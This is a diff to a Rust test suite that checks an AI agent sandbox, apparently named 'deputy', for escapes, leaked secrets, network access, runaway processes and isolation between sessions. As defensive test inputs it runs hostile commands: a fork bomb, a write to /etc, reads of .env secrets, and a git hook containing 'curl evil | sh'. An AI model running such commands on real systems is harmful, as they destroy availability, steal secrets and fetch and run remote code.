@@ -9,7 +9,7 @@ use std::io::Read;
 use std::net::TcpListener;
 use std::time::{Duration, Instant};
 
-use common::{Env, backends, exit_code, processes_with, read};
+use common::{Env, backends, exit_code, modes, processes_with, read};
 use deputy_tools::Backend;
 use deputy_tools::tools::{EditTool, WriteTool};
 use serde_json::json;
@@ -24,8 +24,8 @@ fn plant_secret() {
 
 #[tokio::test]
 async fn writes_outside_the_workspace_fail() {
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         let etc_target = format!("/etc/deputy-escape-{}", std::process::id());
         let out = env.bash(&format!("echo pwned > {etc_target}")).await;
         assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
@@ -72,8 +72,8 @@ async fn writes_outside_the_workspace_fail() {
 
 #[tokio::test]
 async fn symlinks_that_lead_outside_are_not_followed() {
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         let victim = env.outside.join("victim");
         std::fs::write(&victim, "safe").unwrap();
         // A link placed in the workspace beforehand: edit and write through it fail.
@@ -143,8 +143,8 @@ async fn symlinks_that_lead_outside_are_not_followed() {
 #[tokio::test]
 async fn secrets_in_deputys_environment_stay_out() {
     plant_secret();
-    for b in backends() {
-        let env = Env::new(b, |p| {
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |p| {
             p.env_allow = vec!["DEPUTY_ESCAPE_TEST_API_KEY".into(), "LANG".into()]
         });
         let pid = std::process::id();
@@ -171,12 +171,12 @@ async fn secrets_in_deputys_environment_stay_out() {
 
 #[tokio::test]
 async fn network_is_off_unless_opted_in() {
-    for b in backends() {
+    for (b, kept) in modes() {
         for network in [false, true] {
             let listener = TcpListener::bind("127.0.0.1:0").unwrap();
             listener.set_nonblocking(true).unwrap();
             let port = listener.local_addr().unwrap().port();
-            let env = Env::new(b, |p| p.network = network);
+            let env = Env::make(b, kept, |p| p.network = network);
             let out = env
                 .bash(&format!(
                     "exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected"
@@ -211,8 +211,8 @@ async fn fork_bomb_is_held() {
         );
         return;
     }
-    for b in backends() {
-        let env = Env::new(b, |p| p.limits.processes = Some(64));
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |p| p.limits.processes = Some(64));
         let start = Instant::now();
         let out = env
             .bash_timeout(":(){ :|:& };: ; sleep 2; echo survived", Some(4_000))
@@ -237,8 +237,8 @@ async fn fork_bomb_is_held() {
 
 #[tokio::test]
 async fn timeout_kills_grandchildren_and_background_jobs() {
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         let marker = format!("{}.{}", 900 + (std::process::id() % 90), b as u8);
         let start = Instant::now();
         let out = env
@@ -279,8 +279,8 @@ async fn timeout_kills_grandchildren_and_background_jobs() {
 
 #[tokio::test]
 async fn git_hooks_are_read_only_by_default() {
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         let hook = env.ws.join(".git/hooks/pre-commit");
         let out = env
             .bash("echo 'curl evil | sh' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
@@ -303,7 +303,7 @@ async fn git_hooks_are_read_only_by_default() {
         let out = env.bash("ls .git").await;
         assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
         // With writable_git the agent may.
-        let env = Env::new(b, |p| p.writable_git = true);
+        let env = Env::make(b, kept, |p| p.writable_git = true);
         let out = env.bash("echo ok > .git/hooks/pre-commit").await;
         assert_eq!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
     }
@@ -311,8 +311,8 @@ async fn git_hooks_are_read_only_by_default() {
 
 #[tokio::test]
 async fn read_only_mode_writes_nowhere() {
-    for b in backends() {
-        let env = Env::new(b, |p| p.mode = deputy_tools::SandboxMode::ReadOnly);
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |p| p.mode = deputy_tools::SandboxMode::ReadOnly);
         let out = env.bash("echo x > new.txt").await;
         assert_ne!(exit_code(&out), Some(0), "{b:?}: {}", out.content);
         assert!(read(&env.ws.join("new.txt")).is_none());
@@ -361,7 +361,7 @@ async fn bwrap_masks_env_files() {
 
 #[tokio::test]
 async fn env_files_at_any_depth_are_hidden_on_both_backends() {
-    for b in backends() {
+    for (b, kept) in modes() {
         let dir = tempfile::tempdir().unwrap();
         let ws = dir.path().canonicalize().unwrap();
         std::fs::create_dir_all(ws.join("sub/deeper")).unwrap();
@@ -376,17 +376,18 @@ async fn env_files_at_any_depth_are_hidden_on_both_backends() {
             },
             &ws,
         )
-        .unwrap();
-        let p = sb
-            .command(
+        .unwrap()
+        .with_supervisor(kept.then(|| common::SUPERVISOR.into()));
+        let done = sb
+            .run(
                 "cat .env sub/.env sub/deeper/.env.local sub/.env.example; grep -r TOKEN . ; true",
+                Duration::from_secs(10),
+                Default::default(),
             )
-            .unwrap();
-        let done = deputy_tools::process::run(p, Duration::from_secs(10), Default::default())
             .await
             .unwrap();
         let text = done.output.full_text();
-        assert!(!text.contains(SECRET), "{b:?}: {text}");
+        assert!(!text.contains(SECRET), "{b:?} kept={kept}: {text}");
         assert!(
             text.contains("TOKEN="),
             "{b:?}: the example stays readable: {text}"
@@ -397,8 +398,8 @@ async fn env_files_at_any_depth_are_hidden_on_both_backends() {
 #[tokio::test]
 async fn host_unix_sockets_are_out_of_reach() {
     use std::os::unix::net::UnixListener;
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         // A socket beside the workspace (as in /tmp, where ssh agents live), and in /run (where
         // docker's and dbus's are), when the test may make one there.
         let mut socks = vec![env.outside.join("agent.sock")];
@@ -459,7 +460,7 @@ async fn io_uring_is_not_available_under_landlock() {
 
 #[tokio::test]
 async fn processes_a_command_detaches_do_not_outlive_it() {
-    for b in backends() {
+    for (b, kept) in modes() {
         // With and without a cgroup to find them (without one, deputy adopts the orphans).
         for no_cgroups in [false, true] {
             let marker = format!(
@@ -467,7 +468,7 @@ async fn processes_a_command_detaches_do_not_outlive_it() {
                 800 + std::process::id() % 100,
                 u8::from(no_cgroups) + 1
             );
-            let env = Env::new(b, |p| p.no_cgroups = no_cgroups);
+            let env = Env::make(b, kept, |p| p.no_cgroups = no_cgroups);
             let out = env
                 .bash(&format!(
                     "setsid -f sleep {marker}; (setsid sleep {marker} &); nohup sleep {marker} >/dev/null 2>&1 & disown; echo started"
@@ -493,8 +494,8 @@ async fn the_address_space_limit_follows_the_machine() {
         .and_then(|v| v.split_whitespace().next())
         .and_then(|v| v.parse().ok())
         .unwrap();
-    for b in backends() {
-        let env = Env::new(b, |_| {});
+    for (b, kept) in modes() {
+        let env = Env::make(b, kept, |_| {});
         let out = env.bash("ulimit -v").await;
         let limit: u64 = out.content.lines().next().unwrap().trim().parse().unwrap();
         assert!(
@@ -600,4 +601,119 @@ async fn at_most_a_few_commands_run_at_once_in_a_process() {
         most <= deputy_tools::process::MAX_CONCURRENT_COMMANDS,
         "{most} commands ran at once"
     );
+}
+
+/// Two sessions side by side (two sandboxes, kept or not): a command of one cannot see the files
+/// the other left in its private /tmp, nor see or signal the other's processes.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn sessions_cannot_see_or_signal_each_other() {
+    for (b, kept) in modes() {
+        let one = Env::make(b, kept, |_| {});
+        let two = Env::make(b, kept, |_| {});
+        let marker = format!(
+            "7{}.{}{}",
+            std::process::id() % 100,
+            b as u8,
+            u8::from(kept)
+        );
+        let first = one
+            .bash(&format!("echo left > /tmp/left-by-one-{marker}; echo ok"))
+            .await;
+        assert!(
+            first.content.contains("ok"),
+            "{b:?} kept={kept}: {}",
+            first.content
+        );
+        // A long command of session one, running while session two looks for it.
+        let running = {
+            let one = std::sync::Arc::new(one);
+            let o = one.clone();
+            let marker = marker.clone();
+            (
+                one,
+                tokio::spawn(
+                    async move { o.bash(&format!("sleep {marker}; echo finished")).await },
+                ),
+            )
+        };
+        let t0 = Instant::now();
+        while processes_with(&format!("sleep {marker}")).is_empty() {
+            assert!(
+                t0.elapsed() < Duration::from_secs(10),
+                "{b:?}: never started"
+            );
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+        // (`slee[p]`: the pattern must not match this command's own line.)
+        let seen = two
+            .bash(&format!(
+                "ls -a /tmp; pkill -9 -f 'slee[p] {marker}'; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline 2>/dev/null; echo; done | grep -c 'slee[p] {marker}'; true"
+            ))
+            .await;
+        assert!(
+            !seen.content.contains("left-by-one"),
+            "{b:?} kept={kept}: session two saw session one's /tmp: {}",
+            seen.content
+        );
+        assert!(
+            !processes_with(&format!("sleep {marker}")).is_empty(),
+            "{b:?} kept={kept}: session two killed session one's command: {}",
+            seen.content
+        );
+        if b == Backend::Bwrap {
+            // Its own pid namespace: the other's processes are not even listed.
+            assert!(
+                seen.content.contains("\n0\n"),
+                "{b:?} kept={kept}: session one's process was visible: {}",
+                seen.content
+            );
+        }
+        // Session one gives its command up half-way (a cancelled turn): nothing of it is left.
+        let (one, task) = running;
+        drop(one);
+        task.abort();
+        let _ = task.await;
+        let t0 = Instant::now();
+        while !processes_with(&format!("sleep {marker}")).is_empty() {
+            assert!(
+                t0.elapsed() < Duration::from_secs(3),
+                "{b:?} kept={kept}: an abandoned command survived"
+            );
+            tokio::time::sleep(Duration::from_millis(20)).await;
+        }
+    }
+}
+
+/// A supervisor that cannot start (its program is gone) costs nothing but the try: the command
+/// runs in a sandbox of its own, and so do the next ones.
+#[tokio::test]
+async fn a_kept_sandbox_that_cannot_start_falls_back_to_one_per_command() {
+    if !backends().contains(&Backend::Bwrap) {
+        return;
+    }
+    let dir = tempfile::tempdir().unwrap();
+    let ws = dir.path().canonicalize().unwrap();
+    let sb = deputy_tools::Sandbox::new(
+        deputy_tools::SandboxPolicy {
+            force_backend: Some(Backend::Bwrap),
+            ..Default::default()
+        },
+        &ws,
+    )
+    .unwrap()
+    .with_supervisor(Some("/nonexistent/deputy-supervisor".into()));
+    assert!(sb.is_kept());
+    for _ in 0..2 {
+        let done = sb
+            .run(
+                "echo still-works",
+                Duration::from_secs(10),
+                Default::default(),
+            )
+            .await
+            .unwrap();
+        assert_eq!(done.exit_code, Some(0), "{}", done.output.full_text());
+        assert!(done.output.full_text().contains("still-works"));
+        assert!(!sb.is_kept());
+    }
 }
